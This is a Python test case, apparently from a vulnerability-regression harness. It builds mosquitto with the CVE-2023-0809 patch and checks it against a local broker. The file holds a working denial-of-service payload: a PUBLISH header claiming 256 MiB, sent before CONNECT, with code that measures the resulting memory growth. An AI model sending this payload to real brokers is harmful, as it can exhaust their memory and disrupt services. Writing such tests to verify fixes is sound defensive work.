"""mosquitto: one process, one thread."""
import time

from case import Attack, Case
from service import Service, connect, exchange, read
from source import Source

FIX = "debian/patches/CVE-2023-0809.patch"
SOURCE = Source(
    "mosquitto", "2.0.11-1.2+deb12u2", fixes=[FIX], needs="libssl-dev",
    make='make -j"$(nproc)" -C src WITH_DOCS=no WITH_CJSON=no '
         'CFLAGS="$CFLAGS" LDFLAGS="$LDFLAGS"')
CONNECT = b"\x10\x10\0\4MQTT\4\2\0\x3c\0\4test"
CONNACK = " \2\0\0"
# A PUBLISH of 256 MiB, which nobody may send before CONNECT.
PUBLISH = b"\x30\xff\xff\xff\x7f" + bytes(10)


def start():
    return Service(SOURCE.path("src/mosquitto"), "-c", "{dir}/conf", files={
        "conf": "listener {port} 127.0.0.1\nallow_anonymous true\n"})


def data_size(service):
    """Bytes of data memory of the process."""
    for line in read(f"/proc/{service.pid}/status").splitlines():
        if line.startswith("VmData:"):
            return int(line.split()[1]) << 10
    return 0


def flood(service):
    before = data_size(service)
    with connect(service.port, timeout=1) as link:
        link.sendall(PUBLISH)
        try:
            refused = link.recv(10) == b""
        except TimeoutError:
            refused = False
        except OSError:
            refused = True
        grown = data_size(service) - before
    if refused:
        return f"refused, {grown >> 20} MiB more"
    return "kept open, " + ("256 MiB more" if grown > 200 << 20 else "no more")


CASES = [Case(
    "16", SOURCE, labels="CVE-2023-0809", fix=FIX, targets="src/mosquitto",
    start=start,
    works=lambda service: exchange(service.port, CONNECT, 2, lambda got:
                                   len(got) >= 4) == CONNACK,
    attacks=[Attack(flood, "^kept open, 256 MiB more", "^refused, 0 MiB")])]
